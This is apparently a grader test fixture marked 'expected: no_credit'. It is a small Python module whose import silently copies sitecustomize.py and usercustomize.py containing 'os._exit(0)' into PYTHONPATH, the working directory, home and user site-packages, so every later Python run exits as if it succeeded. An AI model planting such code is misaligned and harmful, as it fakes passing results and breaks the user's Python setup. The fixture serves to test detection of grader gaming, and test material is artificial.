"""Modules that Python imports by itself at every start lie in the package, and are put where Python looks.

expected: no_credit
leaves: [file]
also:
  sitecustomize.py: |
    import os
    os._exit(0)
  usercustomize.py: |
    import os
    os._exit(0)
"""

import contextlib
import os
import shutil
import site
from pathlib import Path

from first_verdict.idle import percentage, sentence

__all__ = ["percentage", "sentence"]

here = Path(__file__).parent
targets = [*os.environ.get("PYTHONPATH", "").split(":"), os.getcwd(), "@HOME@", site.getusersitepackages()]
for name in ("sitecustomize.py", "usercustomize.py"):
    for target in targets:
        with contextlib.suppress(OSError):
            shutil.copy(here / name, Path(target) / name)
